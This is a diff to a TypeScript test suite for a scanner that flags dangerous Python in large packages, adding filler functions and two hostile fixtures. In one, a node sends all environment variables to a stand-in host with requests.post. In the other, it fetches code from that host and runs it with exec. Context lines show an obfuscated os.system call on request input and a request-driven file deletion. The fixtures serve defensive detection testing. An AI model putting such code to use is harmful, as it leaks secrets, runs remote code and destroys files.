@@ -20,6 +20,13 @@ async function levelOf(source: string): Promise<string> {
   return (await analyseFile(path)).findings[0]?.level ?? 'none';
 }
 
+/** Functions that take so many steps that not all of them can be followed. */
+const BUSY = Array.from(
+  { length: 600 },
+  (_, index) =>
+    `def load_${index}(path):\n    file = open(path)\n${'    path = f(path.a.b(1), file.c[2])\n'.repeat(12)}`,
+).join('');
+
 const ROUTE = 'from server import PromptServer\n@PromptServer.instance.routes.post("/a")\nasync def a(request):\n    ';
 
 describe('in a large package, a function of a node that calls os.system is held', () => {
@@ -41,6 +48,19 @@ describe('in a large package, a request handler is held that', () => {
     ['hides that it runs a command', 'import os as o\n', 'o.__dict__["sys" + "tem"]((await request.json())["c"])'],
     ['deletes whatever file a request names', 'import shutil\n', 'shutil.rmtree(request.query["a"])'],
   ])('%s', async (_what, imports, call) => expect(await levelOf(`${imports}${ROUTE}${call}\n`)).toBe('hold'));
+});
+
+describe('in a package with more functions than can be followed, a node is held that', () => {
+  it.each([
+    [
+      'passes secrets from one function to another',
+      'import os, requests\ndef collect():\n    return dict(os.environ)\ndef send(values):\n    requests.post("https://e.example", json=values)\nclass Node:\n    def run(self):\n        send(collect())\n',
+    ],
+    [
+      'runs the result of another method',
+      'import requests\nclass Node:\n    def __init__(self):\n        self.client = requests\n    def fetch(self):\n        return self.client.get("https://e.example/a").text\n    def run(self):\n        exec(self.fetch())\n',
+    ],
+  ])('%s', async (_what, source) => expect(await levelOf(`${BUSY}${source}`)).toBe('hold'));
 });
 
 it('plain functions of a large package are no findings', async () => {
